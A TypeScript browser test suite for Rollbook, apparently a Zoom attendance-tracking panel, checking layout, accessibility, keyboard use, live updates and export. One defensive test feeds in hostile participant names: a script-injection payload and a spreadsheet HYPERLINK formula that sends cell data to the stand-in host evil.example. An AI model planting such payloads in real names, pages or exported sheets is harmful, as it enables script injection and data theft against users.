import { readFile, mkdtemp, rm } from 'node:fs/promises'
import { createRequire } from 'node:module'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { gzipSync } from 'node:zlib'
import type { Browser, Page } from 'playwright-core'
import { build } from 'vite'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import type { PersonRow, RosterSnapshot } from '../../shared/wire/index.ts'
import { openBrowser } from '../support/browser.ts'
import { openInZoom, serveClient, type Answers, type LittleServer } from './panel-page.ts'
import { at, crowd, head, hostileNames, lesson, person, snapshot, summarise } from './people.ts'

const axeSource = createRequire(import.meta.url).resolve('axe-core/axe.min.js')
const meeting = {
  gatheringId: 'g1',
  topic: 'Project management, lesson 4',
  number: '84668902623',
  kind: 'meeting',
  capture: 'full',
  mayReadEmails: true,
  mayExport: true,
} as const

let dist: string
let browser: Browser
let server: LittleServer
let page: Page

beforeAll(async () => {
  dist = await mkdtemp(join(tmpdir(), 'rollbook-client-'))
  await build({
    configFile: fileURLToPath(new URL('../../vite.config.ts', import.meta.url)),
    root: fileURLToPath(new URL('../../client', import.meta.url)),
    logLevel: 'silent',
    build: { outDir: dist, emptyOutDir: true },
  })
  browser = await openBrowser()
}, 120_000)
afterAll(async () => {
  await browser.close()
  await rm(dist, { recursive: true, force: true })
})

const defaults = (): Answers => ({
  role: 'host',
  meeting,
  snapshot: snapshot(lesson()),
  refuse: null,
  streams: true,
})
beforeEach(async () => {
  server = await serveClient(dist, defaults())
})
afterEach(async () => {
  await page.context().close()
  await server.close()
})

/** Opens the panel and waits until its list stands. */
async function openPanel(
  options: { people?: PersonRow[]; width?: number; height?: number; query?: string; dark?: boolean } = {},
): Promise<void> {
  if (options.people !== undefined) server.answers.snapshot = snapshot(options.people)
  page = await openInZoom(browser, {
    width: options.width ?? 372,
    height: options.height ?? 760,
    dark: options.dark ?? false,
  })
  await page.goto(`${server.origin}/panel.html${options.query ?? ''}`)
  await page.getByRole('grid').waitFor()
}

const rowNames = () => page.locator('[role=row][data-index] > :first-child bdi:first-child').allInnerTexts()
const visibleText = () => page.locator('body').innerText()

async function violations(): Promise<string[]> {
  await page.addScriptTag({ path: axeSource }).catch(() => page.evaluate(() => undefined))
  if (!(await page.evaluate(() => 'axe' in window))) await page.evaluate(await readFile(axeSource, 'utf8'))
  return page.evaluate(async () => {
    const { axe } = window as unknown as {
      axe: { run: (options: object) => Promise<{ violations: { id: string; nodes: { html: string }[] }[] }> }
    }
    const { violations } = await axe.run({
      runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'],
    })
    return violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html.slice(0, 160) ?? ''}`)
  })
}

describe('the first view', () => {
  it('costs at most 60 kB of compressed script', async () => {
    await openPanel()
    const scripts = await page.evaluate(() =>
      performance
        .getEntriesByType('resource')
        .map((entry) => new URL(entry.name).pathname)
        .filter((path) => path.endsWith('.js')),
    )
    const sizes = await Promise.all(
      [...new Set(scripts)].map(async (path) => gzipSync(await readFile(join(dist, path))).length),
    )
    expect(sizes.length).toBeGreaterThan(0)
    expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThanOrEqual(60_000)
  })

  it('says people, connections and waiting apart, and flags the unidentified', async () => {
    await openPanel()
    const text = (await visibleText()).replaceAll('\u00a0', ' ')
    for (const said of [
      '8 people here',
      '9 came',
      '1 left',
      '1 in the waiting room',
      '10 connections',
      '2 unidentified',
    ]) {
      expect(text).toContain(said)
    }
  })

  it('tells each person’s circumstances in one line', async () => {
    await openPanel({ width: 900 })
    const text = (await visibleText()).replaceAll('\u00a0', ' ')
    for (const said of [
      'Renamed at 19:07 · no e-mail',
      '2 devices · dropped 90 s',
      'Before 18:16 · anna.s@example.org',
      'Left at 18:31',
      'In a breakout room',
      'Waiting for',
      'Left at 18:13 · only in the waiting room',
    ]) {
      expect(text).toContain(said)
    }
  })

  it('shows hostile names as the text they are', async () => {
    const alerts: string[] = []
    await openPanel({ people: hostileNames() })
    page.on('dialog', (dialog) => alerts.push(dialog.message()))
    const names = await page
      .locator('[role=row][data-index] > :first-child bdi:first-child')
      .allTextContents()
    expect(names).toContain('</script><img src=x onerror=alert(1)>')
    expect(names).toContain('=HYPERLINK("http://evil.example/?"&A2;"name")')
    expect(await page.locator('img').count()).toBe(0)
    expect(alerts).toEqual([])
  })
})

describe('fitting into any panel', () => {
  for (const width of [280, 372, 400, 900]) {
    for (const language of ['en', 'ru']) {
      it(`cuts nothing off at ${width} px in ${language}`, async () => {
        await openPanel({ width, query: `?lang=${language}` })
        const cut = await page.evaluate(() => {
          const tooWide = [document.scrollingElement, document.querySelector('main')].some(
            (element) => element !== null && element.scrollWidth > element.clientWidth,
          )
          const controls = [...document.querySelectorAll('button, select, input, p')]
          const outside = controls.filter((element) => {
            const box = element.getBoundingClientRect()
            return box.width > 1 && (box.left < 0 || box.right > innerWidth + 0.5)
          })
          return { tooWide, outside: outside.map((element) => element.outerHTML.slice(0, 120)) }
        })
        expect(cut).toEqual({ tooWide: false, outside: [] })
      })
    }
  }

  it('is a table with visible heads from 700 px', async () => {
    await openPanel({ width: 900 })
    expect(await page.getByRole('columnheader', { name: 'Minutes' }).isVisible()).toBe(true)
  })
})

describe('for everybody', () => {
  for (const [theme, language, width] of [
    ['light', 'en', 372],
    ['dark', 'ru', 372],
    ['light', 'ru', 900],
    ['dark', 'en', 900],
  ] as const) {
    it(`has no axe violation: ${theme}, ${language}, ${width} px, list and sheets`, async () => {
      await openPanel({ width, query: `?lang=${language}&theme=${theme}` })
      expect(await violations()).toEqual([])
      await page.locator('[role=row][data-index="1"]').click()
      await page.getByRole('dialog').waitFor()
      await page.waitForTimeout(200)
      expect(await violations()).toEqual([])
      await page.keyboard.press('Escape')
      await page.locator('main button[class*=main]').click()
      await page.getByRole('dialog').waitFor()
      await page.waitForTimeout(200)
      expect(await violations()).toEqual([])
    })
  }

  it('works by keyboard alone: search, list, details and back', async () => {
    await openPanel()
    await page.keyboard.press('/')
    await page.keyboard.type('person')
    await page.keyboard.press('Escape')
    expect(await page.locator('input[type=search]').inputValue()).toBe('')
    await page.locator('[role=row][tabindex="0"]').focus()
    const focused = () => page.evaluate(() => document.activeElement?.getAttribute('aria-rowindex'))
    await page.keyboard.press('ArrowDown')
    await page.keyboard.press('ArrowDown')
    expect(await focused()).toBe('4')
    await page.keyboard.press('End')
    expect(await focused()).toBe('12')
    await page.keyboard.press('Enter')
    await page.getByRole('dialog').waitFor()
    await page.keyboard.press('Tab')
    await page.keyboard.press('Tab')
    expect(await page.evaluate(() => document.activeElement?.closest('[role=dialog]') !== null)).toBe(true)
    await page.keyboard.press('Escape')
    await page.waitForFunction(() => document.activeElement?.getAttribute('aria-rowindex') === '12')
    await page.keyboard.press('Home')
    expect(await focused()).toBe('2')
  })

  it('switches language and theme in place, without touching the address', async () => {
    await openPanel()
    await page.getByRole('button', { name: 'Appearance and language' }).click()
    await page.getByRole('radio', { name: 'Русский' }).check()
    await page.getByRole('radio', { name: 'Тёмная' }).check()
    expect(await visibleText()).toContain('Сейчас здесь')
    expect(await page.evaluate(() => document.documentElement.dataset['theme'])).toBe('dark')
    expect(page.url()).toBe(`${server.origin}/panel.html`)
  })
})

describe('a very long list', () => {
  it('mounts at most 80 rows of 10,000, wherever it is scrolled', async () => {
    await openPanel({ people: crowd(10_000), width: 900, height: 1400 })
    const mounted = () => page.locator('[role=row][data-index]').count()
    expect(await mounted()).toBeLessThanOrEqual(80)
    await page.locator('main').evaluate((main) => (main.scrollTop = main.scrollHeight / 2))
    await page.waitForFunction(() => document.querySelector('[data-index="5000"]') !== null)
    expect(await mounted()).toBeLessThanOrEqual(80)
    await page.locator('[role=row][tabindex="0"]').focus()
    await page.keyboard.press('End')
    await page.waitForFunction(() => document.activeElement?.getAttribute('aria-rowindex') === '10001')
    expect(await mounted()).toBeLessThanOrEqual(80)
    expect(await page.getByRole('grid').getAttribute('aria-rowcount')).toBe('10001')
  })

  it('finds one of them', async () => {
    await openPanel({ people: crowd(10_000) })
    await page.locator('input[type=search]').fill('07777')
    await page.waitForFunction(() => document.querySelectorAll('[role=row][data-index]').length === 1)
    expect(await rowNames()).toEqual(['Carla 07777'])
  })
})

describe('while people come and go', () => {
  const push = (version: number, upserts: PersonRow[]) => {
    const people = [...lesson(), ...upserts]
    server.push({ version, at: at(47), gathering: head(), summary: summarise(people), upserts, removes: [] })
  }

  it('shows a change without being asked', async () => {
    await openPanel()
    push(2, [person('new', { name: 'Aaron New' })])
    await page.getByText('Aaron New').waitFor()
  })

  it('never moves the row under the pointer', async () => {
    await openPanel()
    await page.mouse.move(100, 400)
    const before = await rowNames()
    push(2, [person('new', { name: 'Aaron New' })])
    await page.getByText('1\u00a0change waits').waitFor()
    expect(await rowNames()).toEqual(before)
    await page.mouse.move(100, 5)
    await page.getByText('Aaron New').waitFor()
  })

  it('keeps the list and goes on by itself where streams do not get through', async () => {
    server.answers.streams = false
    page = await openInZoom(browser, { width: 372 })
    await page.goto(`${server.origin}/panel.html`)
    await page.getByText('refreshed every 5 seconds').waitFor({ timeout: 15_000 })
    expect(await rowNames()).toContain('Elena K.')
  })
})

describe('export and e-mails', () => {
  it('exports what the filter shows and hands the link to the system browser', async () => {
    await openPanel()
    await page.getByRole('button', { name: /^Left/ }).click()
    await page.getByRole('button', { name: 'Export', exact: true }).click()
    await page.getByRole('button', { name: 'Export 2' }).click()
    await page.getByText('Opened in your browser').waitFor()
    const sent = server.told.find(({ call }) => call.endsWith('/exports'))?.body as { filter: object }
    expect(sent.filter).toEqual({ search: '', show: 'left' })
    const opened = await page.evaluate(
      () => (window as unknown as { zoomTest: { opened: string[] } }).zoomTest.opened,
    )
    expect(opened).toEqual([`${server.origin}/exports/abc`])
  })

  it('asks for e-mails with the host’s own reason and counts the answers', async () => {
    await openPanel()
    await page.getByRole('button', { name: 'Ask for e-mails' }).click()
    await page.getByLabel('Reason they will read').fill('For the certificate')
    await page.getByRole('button', { name: 'Ask everybody' }).click()
    await page.getByText('Answers come one by one').waitFor()
    await page.evaluate(() => {
      const { zoomTest } = window as unknown as { zoomTest: { event: (name: string, data: object) => void } }
      zoomTest.event('onParticipantEmail', {
        participantUUID: 'P1',
        participantEmail: 'a@example.org',
        timestamp: 1,
      })
    })
    await page.getByText('1 agreed').waitFor()
  })
})

describe('the other faces', () => {
  async function openWith(change: Partial<Answers>, path = '/panel.html'): Promise<void> {
    Object.assign(server.answers, change)
    page = await openInZoom(browser, { width: 372 })
    await page.goto(server.origin + path)
  }

  it('is friendly to guests', async () => {
    await openWith({ refuse: 'guest' })
    await page.getByRole('heading', { name: 'Sign in to Zoom to use Rollbook' }).waitFor()
    expect(await violations()).toEqual([])
  })

  it('offers to add Rollbook where it is not installed, in the system browser', async () => {
    await openWith({ refuse: 'not_installed' })
    await page.getByRole('button', { name: 'Add Rollbook' }).click()
    const opened = await page.evaluate(
      () => (window as unknown as { zoomTest: { opened: string[] } }).zoomTest.opened,
    )
    expect(opened).toEqual([`${server.origin}/oauth/install`])
    expect(page.url()).toBe(`${server.origin}/panel.html`)
  })

  it('tells participants who sees attendance', async () => {
    await openWith({ role: 'participant', meeting: null })
    await page.getByRole('heading', { name: 'The host sees attendance' }).waitFor()
  })

  it('says that nobody has come yet, and what will appear', async () => {
    await openWith({ snapshot: snapshot([]) })
    await page.getByRole('heading', { name: 'Nobody has joined yet' }).waitFor()
    expect(await violations()).toEqual([])
  })

  it('labels a capture that only this panel makes', async () => {
    const given: Partial<RosterSnapshot> = {
      gathering: head({ capture: 'panel_only', witnesses: ['panel'] }),
    }
    await openWith({ snapshot: snapshot(lesson(), given) })
    await page.getByText('Only what this panel sees is recorded').waitFor()
    expect(await violations()).toEqual([])
  })

  it('says so when Zoom’s own messages are missing', async () => {
    await openWith({ snapshot: snapshot(lesson(), { gathering: head({ witnesses: ['panel'] }) }) })
    await page.getByText('Zoom’s own messages are missing').waitFor()
  })

  it('says what happened and tries again when the server cannot save', async () => {
    await openWith({ refuse: 'storage_unavailable' })
    await page.getByRole('heading', { name: 'Rollbook cannot save right now' }).waitFor()
    server.answers.refuse = null
    await page.getByRole('button', { name: 'Try again' }).click()
    await page.getByRole('grid').waitFor()
  })

  it('shows the panel at the home address too when Zoom is on the other side', async () => {
    await openWith({}, '/')
    await page.getByRole('grid').waitFor()
    expect(await page.getByText('Who was really there?').count()).toBe(0)
  })
})

describe('the page in a plain browser', () => {
  async function openHome(options: { query?: string; script?: boolean; dark?: boolean } = {}): Promise<void> {
    const context = await browser.newContext({
      viewport: { width: 400, height: 800 },
      javaScriptEnabled: options.script ?? true,
      colorScheme: options.dark === true ? 'dark' : 'light',
      locale: 'en-GB',
    })
    page = await context.newPage()
    await page.goto(`${server.origin}/${options.query ?? ''}`)
  }

  it('explains the app and how to add it, in the reader’s language', async () => {
    await openHome({ query: '?lang=ru' })
    expect(await page.getByRole('link', { name: 'Добавить в Zoom' }).getAttribute('href')).toBe(
      '/oauth/install',
    )
    expect(await page.getByText('Who was really there?').isVisible()).toBe(false)
    await page.getByRole('button', { name: 'English' }).click()
    expect(await page.getByText('Who was really there?').isVisible()).toBe(true)
    expect(page.url()).toBe(`${server.origin}/?lang=ru`)
  })

  it('says the same without scripts, in both languages', async () => {
    await openHome({ script: false })
    expect(await page.getByText('Who was really there?').isVisible()).toBe(true)
    expect(await page.getByText('Кто был на самом деле?').isVisible()).toBe(true)
  })

  for (const dark of [false, true]) {
    it(`has no axe violation in ${dark ? 'dark' : 'light'}`, async () => {
      await openHome({ dark })
      await page.locator('.languages').waitFor()
      expect(await violations()).toEqual([])
    })
  }
})
